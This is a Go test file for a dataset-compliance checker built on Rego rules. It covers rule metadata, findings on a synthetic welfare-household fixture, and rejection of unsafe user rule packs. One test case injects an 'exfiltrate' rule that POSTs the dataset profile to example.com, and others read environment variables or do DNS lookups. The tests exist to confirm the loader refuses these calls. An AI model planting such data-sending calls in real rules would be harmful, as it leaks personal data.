package rules

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/dgcheck/dgcheck/reports"
)

func TestRulesCarryTheirIdentity(t *testing.T) {
	engine, err := Load(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	idForm := regexp.MustCompile(`^[A-Z]+-\d{3}$`)
	seen := map[string]bool{}
	for _, r := range engine.Rules() {
		if !idForm.MatchString(r.ID) {
			t.Errorf("%s: id %q is not of the form AREA-000", r.Package, r.ID)
		}
		if seen[r.ID] {
			t.Errorf("%s: id %s is not unique", r.Package, r.ID)
		}
		seen[r.ID] = true
		// Built-in rules also carry their Chinese title and remediation, which the HTML
		// report shows with --lang zh; user packs may omit them and fall back to English.
		for field, value := range map[string]string{
			"title": r.Title, "custom.standard": r.Standard, "custom.clause": r.Clause,
			"custom.remediation": r.Remediation, "description": r.Description,
			"custom.title_zh": r.TitleZh, "custom.remediation_zh": r.RemediationZh,
		} {
			if value == "" {
				t.Errorf("%s (%s) has no %s", r.ID, r.Package, field)
			}
		}
		if wantPkg := "data.dgcheck.rules." + r.Area + "."; !strings.HasPrefix(r.Package, wantPkg) {
			t.Errorf("%s: package %s is not under %s", r.ID, r.Package, wantPkg)
		}
	}
}

// household is a hand-written input for one small dataset that breaks every built-in rule.
const household = `{
  "dataset": {"path": "testdata/dibao.csv", "name": "dibao.csv", "format": "csv", "encoding": "gb18030",
              "delimiter": ",", "rows": 2000, "columns": ["household_id", "xm", "sfzh", "lxdh"], "metadata_path": ""},
  "metadata": {
    "title": {"zh": " "},
    "cn": {"open_type": "无条件开放"},
    "fields": [
      {"name": "household_id", "nullable": false},
      {"name": "xm", "nullable": false},
      {"name": "sfzh", "validator": "cn_id_gb11643"},
      {"name": "dz"}
    ]
  },
  "profile": {
    "schema_version": "1",
    "rows": 2000,
    "columns": [
      {"name": "household_id", "index": 0, "rows": 2000, "nulls": 0, "blanks": 0, "missing_tokens": {}, "null_samples": null, "detectors": {}},
      {"name": "xm", "index": 1, "rows": 2000, "nulls": 2, "blanks": 0, "missing_tokens": {"无": 1}, "null_samples": [5, 9], "detectors": {}},
      {"name": "sfzh", "index": 2, "rows": 2000, "nulls": 2, "blanks": 0, "missing_tokens": {}, "null_samples": [7, 8],
       "detectors": {"cn_resident_id": {"matched": 1998, "plausible": 1998, "valid": 1996, "masked": 0, "traits": {"bad_check_digit": 2},
         "invalid_samples": [{"row": 14, "value": "110105********0021"}, {"row": 733, "value": "320102********1234"}],
         "raw_samples": [{"row": 1, "value": "110105********002X"}]}}},
      {"name": "lxdh", "index": 3, "rows": 2000, "nulls": 0, "blanks": 0, "missing_tokens": {}, "null_samples": null,
       "detectors": {"mobile": {"matched": 2000, "plausible": 2000, "valid": 2000, "masked": 0, "invalid_samples": null,
         "raw_samples": [{"row": 1, "value": "138****5678"}]}}}
    ],
    "table": {
      "rows": 2000,
      "ragged_rows": {"count": 1, "samples": [{"row": 1200, "line": 1201, "detail": "5 fields, header has 4"}]},
      "undecodable_rows": {"count": 0, "samples": null},
      "duplicate_rows": {"count": 1, "samples": [{"row": 300, "first_row": 299}]},
      "keys": [{"columns": ["household_id"], "rows": 2000, "null_keys": 0, "distinct": 1999,
                "duplicates": {"count": 1, "samples": [{"row": 300, "first_row": 299}]}}]
    }
  },
  "options": {"now": "2026-11-25T00:00:00Z", "thresholds": {}}
}`

func decodeInput(t *testing.T, doc string) Input {
	t.Helper()
	var in struct{ Dataset, Metadata, Profile, Options any }
	if err := json.Unmarshal([]byte(doc), &in); err != nil {
		t.Fatal(err)
	}
	return Input(in)
}

func TestEvaluate(t *testing.T) {
	ctx := context.Background()
	engine, err := Load(ctx)
	if err != nil {
		t.Fatal(err)
	}
	findings, err := engine.Evaluate(ctx, decodeInput(t, household))
	if err != nil {
		t.Fatal(err)
	}

	// Most severe first, then by id, column and message.
	want := []string{
		"error CLASS-006 lxdh",
		"error CLASS-006 sfzh",
		"error DESENS-001 household_id",
		"error DESENS-001 sfzh",
		"error DESENS-001 xm",
		"error ID-002 sfzh",
		"error META-001 ",
		"error META-016 dz",
		"error META-016 lxdh",
		"error PUB-003 lxdh",
		"error PUB-003 sfzh",
		"error QUAL-007 xm",
		"error QUAL-012 household_id",
		"error QUAL-019 ",
		"warning QUAL-011 ",
	}
	// The input is written to break the rules above; other rules (the metadata it lacks) are
	// tested on their own.
	var got []string
	for _, f := range findings {
		if slices.ContainsFunc(want, func(w string) bool { return strings.Fields(w)[1] == f.ID }) {
			got = append(got, string(f.Severity)+" "+f.ID+" "+f.Column)
		}
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}

	idCheck := findings[slices.IndexFunc(findings, func(f reports.Finding) bool { return f.ID == "ID-002" })]
	wantIDCheck := reports.Finding{
		ID:          "ID-002",
		Title:       "Citizen ID check digits are valid",
		Area:        "identifiers",
		Severity:    reports.Error,
		Standard:    "GB 11643-1999",
		Clause:      "校验码 (ISO 7064:1983 MOD 11-2); Annex B 校验码字符值计算方法实例",
		Remediation: "Correct the numbers at the source, checking each against the register: a wrong check digit almost always means a mistyped digit elsewhere in the number.",
		Column:      "sfzh",
		Message:     "sfzh: 2 of 1998 resident ID numbers have a wrong check digit (X = 0.9990)",
		MessageZh:   "sfzh：1998 个公民身份号码中有 2 个校验码错误（X = 0.9990）",
		Measure:     &reports.Measure{A: 1996, B: 1998, X: 1996.0 / 1998},
		Evidence:    map[string]any{"matched": 1998.0, "valid": 1996.0, "masked": 0.0, "bad_check_digit": 2.0},
		Samples:     []reports.Sample{{Row: 14, Value: "110105********0021"}, {Row: 733, Value: "320102********1234"}},
	}
	if !reflect.DeepEqual(idCheck, wantIDCheck) {
		t.Errorf("ID-002 finding:\n%+v\nwant\n%+v", idCheck, wantIDCheck)
	}
}

func TestEvaluateWithoutMetadata(t *testing.T) {
	ctx := context.Background()
	engine, err := Load(ctx)
	if err != nil {
		t.Fatal(err)
	}
	in := decodeInput(t, household)
	in.Metadata = nil
	in.Options = nil
	findings, err := engine.Evaluate(ctx, in)
	if err != nil {
		t.Fatal(err)
	}
	undocumented := map[string]bool{}
	for _, f := range findings {
		if f.ID == "META-016" {
			undocumented[f.Column] = true
		}
	}
	if len(undocumented) != 4 {
		t.Errorf("without metadata META-016 names columns %v, want all 4", undocumented)
	}
}

// noNotesRule is a user rule: a dataset has no free-text notes column.
const noNotesRule = `# METADATA
# title: No free-text notes column
# description: Free-text notes collect what no field was designed for, personal data included.
# custom:
#   id: ACME-001
#   standard: ACME data policy 2026
#   clause: "4.2"
#   severity: warning
#   remediation: Drop the notes column before release.
package dgcheck.rules.custom.no_notes

import data.dgcheck.lib.result

warning contains result.finding(rego.metadata.chain(), {"column": c, "message": sprintf("%s is a free-text notes column", [c])}) if {
	some c in input.dataset.columns
	c in data.dgcheck.rules.custom.no_notes.names
}
`

const noNotesTests = `package dgcheck.rules.custom.no_notes_test

import data.dgcheck.rules.custom.no_notes

test_fail_notes_column if {
	[f] := [f | some f in no_notes.warning] with input as {"dataset": {"columns": ["id", "bz"]}}
	f.id == "ACME-001"
	f.column == "bz"
}

test_success_no_notes_column if {
	count(no_notes.warning) == 0 with input as {"dataset": {"columns": ["id"]}}
}
`

// noNotesPack lays the rule out as the built-in ones are, its data beside it.
var noNotesPack = map[string]string{
	"dgcheck/rules/custom/no_notes/no_notes.rego":      noNotesRule,
	"dgcheck/rules/custom/no_notes/no_notes_test.rego": noNotesTests,
	"dgcheck/rules/custom/no_notes/data.json":          `{"names": ["bz", "beizhu"]}`,
}

// writePack writes files (relative path → content) into a new directory.
func writePack(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestUserPackAddsItsRule(t *testing.T) {
	ctx := context.Background()
	dir := writePack(t, noNotesPack)
	engine, err := Load(ctx, WithUserRules(dir))
	if err != nil {
		t.Fatal(err)
	}

	var added *RuleInfo
	for _, r := range engine.Rules() {
		if r.ID == "ACME-001" {
			added = &r
		}
	}
	want := RuleInfo{Package: "data.dgcheck.rules.custom.no_notes", Pack: dir, Rule: reports.Rule{
		ID: "ACME-001", Title: "No free-text notes column",
		Description: "Free-text notes collect what no field was designed for, personal data included.",
		Area:        "custom", Severity: reports.Warning,
		Standard: "ACME data policy 2026", Clause: "4.2", Remediation: "Drop the notes column before release.",
	}}
	if added == nil || *added != want {
		t.Fatalf("user rule info = %+v, want %+v", added, want)
	}
	builtIn, err := Load(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if n := len(engine.Rules()); n != len(builtIn.Rules())+1 {
		t.Errorf("%d rules, want the %d built-in ones and the user's", n, len(builtIn.Rules()))
	}

	in := decodeInput(t, household)
	in.Dataset = map[string]any{"columns": []string{"household_id", "bz"}}
	findings, err := engine.Evaluate(ctx, in)
	if err != nil {
		t.Fatal(err)
	}
	var got []reports.Finding
	for _, f := range findings {
		if f.ID == "ACME-001" {
			got = append(got, f)
		}
	}
	wantFinding := reports.Finding{
		ID: "ACME-001", Title: "No free-text notes column", Area: "custom", Severity: reports.Warning,
		Standard: "ACME data policy 2026", Clause: "4.2", Remediation: "Drop the notes column before release.",
		Column: "bz", Message: "bz is a free-text notes column",
	}
	if len(got) != 1 || !reflect.DeepEqual(got[0], wantFinding) {
		t.Errorf("user rule findings = %+v, want [%+v]", got, wantFinding)
	}
}

func TestLoadRejectsBadPacks(t *testing.T) {
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  []string // fragments of the error
	}{{
		name:  "syntax error",
		files: map[string]string{"broken.rego": "package dgcheck.rules.custom.broken\n\nviolation contains f if {\n\tf := \n}\n"},
		want:  []string{"broken.rego:5", "rego_parse_error"},
	}, {
		name: "http.send",
		files: map[string]string{"exfiltrate.rego": strings.Replace(noNotesRule, "c in data.dgcheck.rules.custom.no_notes.names",
			`http.send({"method": "POST", "url": "https://example.com", "body": input.profile}).status_code == 200`, 1)},
		want: []string{"exfiltrate.rego:16", "http.send is not allowed"},
	}, {
		name: "opa.runtime",
		files: map[string]string{"env.rego": strings.Replace(noNotesRule, "c in data.dgcheck.rules.custom.no_notes.names",
			`opa.runtime().env.HOME != ""`, 1)},
		want: []string{"env.rego:16", "opa.runtime is not allowed"},
	}, {
		name:  "net.lookup_ip_addr",
		files: map[string]string{"dns.rego": strings.Replace(noNotesRule, "c in data.dgcheck.rules.custom.no_notes.names", `net.lookup_ip_addr(c)`, 1)},
		want:  []string{"dns.rego:16", "net.lookup_ip_addr is not allowed"},
	}, {
		name: "misspelt input field",
		files: map[string]string{"typo.rego": strings.Replace(
			strings.Replace(noNotesRule, "#   remediation: Drop the notes column before release.\n",
				"#   remediation: Drop the notes column before release.\n# schemas:\n#   - input: schema.dgcheck.input\n", 1),
			"some c in input.dataset.columns", "some c in input.dataset.colums", 1)},
		want: []string{"typo.rego:17", "undefined ref: input.dataset.colums"},
	}, {
		// The root package's schema annotation reaches a pack that declares none.
		name:  "misspelt input field, no schemas annotation",
		files: map[string]string{"typo.rego": strings.Replace(noNotesRule, "some c in input.dataset.columns", "some c in input.dataset.colums", 1)},
		want:  []string{"typo.rego:15", "undefined ref: input.dataset.colums"},
	}, {
		name:  "missing annotations",
		files: map[string]string{"bare.rego": "package dgcheck.rules.custom.bare\n\nviolation contains {\"message\": \"m\"} if false\n"},
		want:  []string{"bare.rego:1", "data.dgcheck.rules.custom.bare has no METADATA annotation"},
	}, {
		name:  "missing clause and bad severity",
		files: map[string]string{"half.rego": strings.Replace(strings.Replace(noNotesRule, "#   clause: \"4.2\"\n", "", 1), "severity: warning", "severity: high", 1)},
		want:  []string{"half.rego:1", "no custom.clause", `custom.severity "high" is not error, warning or info`},
	}, {
		name:  "id taken",
		files: map[string]string{"clash.rego": strings.Replace(noNotesRule, "ACME-001", "META-001", 1)},
		want:  []string{"clash.rego:1", "custom.id META-001 is already the id of data.dgcheck.rules.metadata.title_present"},
	}, {
		name:  "package outside rules",
		files: map[string]string{"lib.rego": "package dgcheck.lib.result\n\nfinding(_, d) := d\n"},
		want:  []string{"lib.rego:1", "package data.dgcheck.lib.result is outside data.dgcheck.rules"},
	}, {
		name:  "module in a built-in rule's package",
		files: map[string]string{"silence.rego": "package dgcheck.rules.metadata.title_present\n\nextra := true\n"},
		want:  []string{"silence.rego:1", "package data.dgcheck.rules.metadata.title_present extends the built-in package data.dgcheck.rules.metadata.title_present"},
	}, {
		name:  "package inside a built-in rule's package",
		files: map[string]string{"inside.rego": "package dgcheck.rules.metadata.title_present.more\n\nviolation := set()\n"},
		want:  []string{"inside.rego:1", "extends the built-in package data.dgcheck.rules.metadata.title_present"},
	}, {
		name:  "data in a built-in rule's package",
		files: map[string]string{"dgcheck/rules/quality/readable/data.json": `{"tolerance": 1}`},
		want:  []string{"data.dgcheck.rules.quality.readable extends the built-in package data.dgcheck.rules.quality.readable"},
	}, {
		name:  "rand.intn",
		files: map[string]string{"dice.rego": strings.Replace(noNotesRule, "c in data.dgcheck.rules.custom.no_notes.names", `rand.intn(c, 2) == 0`, 1)},
		want:  []string{"dice.rego:16", "rand.intn is not allowed: it draws random numbers"},
	}, {
		name:  "uuid.rfc4122",
		files: map[string]string{"uuid.rego": strings.Replace(noNotesRule, "c in data.dgcheck.rules.custom.no_notes.names", `uuid.rfc4122(c) != ""`, 1)},
		want:  []string{"uuid.rego:16", "uuid.rfc4122 is not allowed: it draws random numbers"},
	}, {
		name: "io.jwt.decode_verify",
		files: map[string]string{"jwt.rego": strings.Replace(noNotesRule, "c in data.dgcheck.rules.custom.no_notes.names",
			`io.jwt.decode_verify(c, {"secret": "s"})[0]`, 1)},
		want: []string{"jwt.rego:16", "io.jwt.decode_verify is not allowed: it reads the clock"},
	}, {
		name:  "time.now_ns",
		files: map[string]string{"clock.rego": strings.Replace(noNotesRule, "c in data.dgcheck.rules.custom.no_notes.names", `time.now_ns() > 0`, 1)},
		want:  []string{"clock.rego:16", "time.now_ns is not allowed: it reads the clock"},
	}, {
		name:  "data outside rules",
		files: map[string]string{"dgcheck/config/data.json": `{"thresholds": {"completeness_min": 0}}`},
		want:  []string{"data.dgcheck.config is outside data.dgcheck.rules"},
	}} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Load(context.Background(), WithUserRules(writePack(t, tc.files)))
			if err == nil {
				t.Fatal("Load succeeded")
			}
			for _, w := range tc.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not contain %q", err, w)
				}
			}
		})
	}
}

func TestLoadRejectsAPackageOfTwoPacks(t *testing.T) {
	rule := map[string]string{"no_notes.rego": noNotesRule}
	other := map[string]string{"more.rego": "package dgcheck.rules.custom.no_notes\n\nmore := true\n"}
	_, err := Load(context.Background(), WithUserRules(writePack(t, rule), writePack(t, other)))
	if err == nil || !strings.Contains(err.Error(), "more.rego:1: package data.dgcheck.rules.custom.no_notes is already defined by the rule pack") {
		t.Errorf("Load error = %v, want the package refused for the second pack", err)
	}
}

func TestLoadRejectsDataDefinedTwice(t *testing.T) {
	data := map[string]string{"dgcheck/rules/custom/no_notes/data.json": `{"names": ["bz"]}`}
	_, err := Load(context.Background(), WithUserRules(writePack(t, data), writePack(t, data)))
	if err == nil || !strings.Contains(err.Error(), "data.dgcheck.rules.custom.no_notes.names is defined twice") {
		t.Errorf("Load error = %v, want names defined twice", err)
	}
}
